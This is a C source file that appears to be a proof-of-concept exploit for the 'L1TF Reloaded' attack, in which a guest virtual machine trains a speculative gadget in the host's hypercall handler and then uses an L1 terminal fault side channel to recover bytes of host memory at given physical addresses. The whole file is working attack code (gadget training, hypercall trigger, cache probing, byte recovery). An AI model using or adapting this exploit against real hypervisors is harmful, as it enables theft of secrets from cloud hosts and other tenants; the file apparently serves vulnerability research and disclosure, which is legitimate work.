/*
 * L1TF Reloaded ("Rain": VUSec, 2025): half a Spectre gadget in the host, which reads where an index
 * of the guest's points before it has been checked, is no leak by itself, but it brings the line into
 * the first-level cache; from there the guest takes it as in l1tf-guest. Nobody uses the secret.
 *
 * The gadget runs where the host handles a hypercall, and the guest goes on right behind it.
 */
#include "attack.h"

#include "channel.h"
#include "faulting.h"
#include "gadget.h"
#include "machine.h"

enum { TRAININGS = 6 };

/* Inside, where the entry is. */
static uint8_t *const window = (uint8_t *)(1ULL << 40);

static struct machine machine;
static const uint8_t *probe, *array;

/* Of a sample: where in the page the byte is, its index in the gadget's table, and what was seen. */
static int place, shown;
static uint64_t wanted;

static void sample_inside(void)
{
	flush_probe(probe);
	flush_delays();
	hypercall(wanted);
	send_faulting(window + place, probe);
	shown = reload_probe(probe);
}

/* Trainings take the same way to the check as what follows, so that its history is the same. */
static int sample(int index)
{
	*IN_MACHINE(&machine, place) = options.physical % MACHINE_PAGE + index;
	for (int i = 0; i < TRAININGS; i++) {
		*IN_MACHINE(&machine, wanted) = i;
		machine_run(&machine, sample_inside);
	}
	*IN_MACHINE(&machine, wanted) = options.address + index - options.table;
	flush(array + SHARED_LIMIT);
	memory_fence();
	machine_run(&machine, sample_inside);
	return *IN_MACHINE(&machine, shown);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	if (!options.physical || !options.address || !options.table)
		errx(2, "expected --physical, --address and --table");
	array = map_gadget(options.gadget);
	calibrate();
	probe = own_probe();
	machine_create(&machine);
	*machine_entry(&machine, (uintptr_t)window) = options.physical & entry_frame;
	recover(sample, (struct patience){ .samples = 12, .lead = 2 }, 1);
	return 0;
}
